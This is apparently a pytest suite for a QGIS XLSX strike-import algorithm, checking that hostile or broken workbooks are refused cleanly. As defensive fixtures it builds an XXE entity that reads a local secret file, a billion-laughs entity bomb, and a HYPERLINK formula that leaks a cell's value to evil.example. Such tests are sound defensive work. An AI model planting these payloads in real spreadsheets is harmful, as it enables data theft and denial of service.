"""Hostile and broken XLSX through strikecheck:importstrikes: a clear message naming the file
and the problem, or a correct result; never a traceback, an evaluated formula or memory spent
on what a sheet claims rather than holds."""

import datetime as dt
import resource
import time
import zipfile

import pytest
from qgis.core import QgsProcessingException

from tests.layers import rows_by
from tests.recording import RecordingFeedback
from tests.xlsx_parts import sheet_xml, write_workbook

ALG = "strikecheck:importstrikes"
HEADER = ["id", "date", "lat", "lon", "note"]
ROWS = [HEADER, ["a", "2015-09-30", 34.8333, 36.7333, "x"], ["b", "2015-10-01", 35.0, 36.0, "y"]]


def run(run_alg, path, feedback=None, **extra):
    params = {"INPUT": str(path), "OUTPUT": "TEMPORARY_OUTPUT", "ERRORS": "TEMPORARY_OUTPUT"}
    params.update(extra)
    return run_alg(ALG, params, feedback or RecordingFeedback())


def strikes(result):
    return rows_by(result["OUTPUT"], "strike_id")


def qdate(value):
    return value.toPyDate() if value is not None and not value.isNull() else None


def refused(run_alg, path, *words):
    """Runs the import, expecting one QgsProcessingException naming the file and `words`."""
    with pytest.raises(QgsProcessingException) as caught:
        run(run_alg, path)
    text = str(caught.value).replace(str(path.parent), "")  # its folder's name is the test's
    assert path.name in text, text
    for word in words:
        assert word in text, text
    assert "Traceback" not in text
    return text


# -- not a workbook at all --------------------------------------------------------------------


def test_xlsx_that_is_not_a_zip(run_alg, tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(b"<html><body>Please sign in</body></html>")
    refused(run_alg, path, "not an Excel workbook")


def test_zip_that_is_not_a_workbook(run_alg, tmp_path):
    path = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday.txt", "not a spreadsheet")
    refused(run_alg, path, "not an Excel workbook")


def test_password_protected_workbook(run_alg, tmp_path):
    # Excel writes an encrypted .xlsx as an OLE compound file holding EncryptedPackage.
    path = tmp_path / "locked.xlsx"
    stream = "EncryptedPackage".encode("utf-16-le")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + stream)
    refused(run_alg, path, "password-protected")


def test_old_excel_file_named_xlsx(run_alg, tmp_path):
    path = tmp_path / "old.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Workbook")
    refused(run_alg, path, "Excel 97-2003")


# -- hostile XML ------------------------------------------------------------------------------


def _entity_sheet(doctype):
    rows = [HEADER, ["a", "2015-09-30", 34.8333, 36.7333, "&e;"]]
    xml = sheet_xml(rows, doctype=doctype).replace("&amp;e;", "&e;")
    return xml


def test_external_entity_is_never_read(run_alg, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    doctype = f'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file://{secret}">]>'
    path = write_workbook(tmp_path / "xxe.xlsx", [("Strikes", _entity_sheet(doctype))])
    feedback = RecordingFeedback()
    try:
        result = run(run_alg, path, feedback)
    except QgsProcessingException as error:  # refusing the sheet is as good as ignoring it
        assert "xxe.xlsx" in str(error) and "TOP-SECRET-VALUE" not in str(error)
        return
    values = [f.attributes() for f in result["OUTPUT"].getFeatures()]
    values += [f.attributes() for f in result["ERRORS"].getFeatures()]
    assert "TOP-SECRET-VALUE" not in repr(values) + feedback.text()


def test_entity_expansion_bomb_stops_quickly(run_alg, tmp_path):
    entities = '<!ENTITY e0 "lollollollol">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10)
    )
    doctype = f'<!DOCTYPE worksheet [{entities}<!ENTITY e "&e9;">]>'
    path = write_workbook(tmp_path / "bomb.xlsx", [("Strikes", _entity_sheet(doctype))])
    before, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    refused(run_alg, path, "DOCTYPE")
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert time.monotonic() - start < 10 and grown_mb < 200, grown_mb


def test_claimed_dimension_is_not_allocated(run_alg, tmp_path):
    xml = sheet_xml(ROWS, dimension="A1:XFD1048576")
    path = write_workbook(tmp_path / "claims.xlsx", [("Strikes", xml)])
    before, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    out = strikes(run(run_alg, path))
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert sorted(out) == ["a", "b"]
    assert time.monotonic() - start < 10 and grown_mb < 200, grown_mb


# -- cells ------------------------------------------------------------------------------------


def test_formulas_are_imported_as_text_never_evaluated(run_alg, tmp_path):
    link = 'HYPERLINK("http://evil.example/?leak="&A2,"click me")'
    rows = [
        HEADER + ["link", "sum"],
        ["a", "2015-09-30", 34.8333, 36.7333, "x", ("f", link, "click me"), ("f", "1+1", 2)],
        ["b", "2015-09-30", 35.0, 36.0, "y", ("f", link, None), ("f", "1+1", None)],
    ]
    path = write_workbook(tmp_path / "formulas.xlsx", [("Strikes", sheet_xml(rows))])
    out = strikes(run(run_alg, path))
    assert sorted(out) == ["a", "b"]
    assert out["a"]["link"] == "click me" and str(out["a"]["sum"]) in ("2", "2.0")
    # Without a cached value nothing is computed: the cell is empty or its formula text.
    assert out["b"]["link"] in (None, link, "=" + link) or out["b"]["link"].isNull()
    assert str(out["b"]["sum"]) not in ("2", "2.0")


def test_dates_as_serial_numbers_and_as_text(run_alg, tmp_path):
    rows = [
        HEADER,
        ["serial", ("date", 42277), 34.8333, 36.7333, "styled"],
        ["text", "30/09/2015", 35.0, 36.0, "text"],
        ["iso", "2015-09-30", 35.1, 36.1, "iso"],
    ]
    path = write_workbook(tmp_path / "dates.xlsx", [("Strikes", sheet_xml(rows))])
    result = run(run_alg, path)
    out = strikes(result)
    assert sorted(out) == ["iso", "serial", "text"], [
        f.attributes() for f in result["ERRORS"].getFeatures()
    ]
    assert {qdate(f["date"]) for f in out.values()} == {dt.date(2015, 9, 30)}


def test_merged_header_cells(run_alg, tmp_path):
    # "position" spans the latitude and longitude columns: GDAL then reads no header at all.
    rows = [["id", "date", "position", None, "note"], ["a", "2015-09-30", 34.8333, 36.7333, "x"]]
    path = write_workbook(
        tmp_path / "merged.xlsx", [("Strikes", sheet_xml(rows, merged=["C1:D1"]))]
    )
    feedback = RecordingFeedback()
    result = run(run_alg, path, feedback, LAT_FIELD="position", LON_FIELD="field_4")
    assert "column names: id, date, position, field_4, note" in feedback.text()
    (strike,) = result["OUTPUT"].getFeatures()
    assert strike["strike_id"] == "a" and strike.geometry().asPoint().y() == pytest.approx(34.8333)


# -- sheets -----------------------------------------------------------------------------------


def test_empty_workbook(run_alg, tmp_path):
    path = write_workbook(tmp_path / "empty.xlsx", [("Sheet1", sheet_xml([]))])
    refused(run_alg, path, "'Sheet1'", "holds no cells")


def test_workbook_without_sheets(run_alg, tmp_path):
    path = write_workbook(tmp_path / "nosheet.xlsx", [])
    refused(run_alg, path, "has no sheets")


def test_several_sheets_the_one_read_is_named(run_alg, tmp_path):
    other = [["what", "count"], ["notes", 3]]
    sheets = [("Strikes", sheet_xml(ROWS)), ("Notes", sheet_xml(other)), ("Old", sheet_xml([]))]
    path = write_workbook(tmp_path / "book.xlsx", sheets)
    feedback = RecordingFeedback()
    out = strikes(run(run_alg, path, feedback))
    assert sorted(out) == ["a", "b"]
    said = feedback.text()
    assert "Reading sheet 'Strikes' of book.xlsx" in said, said
    assert "'Notes', 'Old'" in said and "book.xlsx|layername=<sheet>" in said, said
    feedback = RecordingFeedback()
    with pytest.raises(QgsProcessingException, match="No positions found"):
        run(run_alg, f"{path}|layername=Notes", feedback)
    assert "Reading sheet 'Notes' of book.xlsx" in feedback.text()
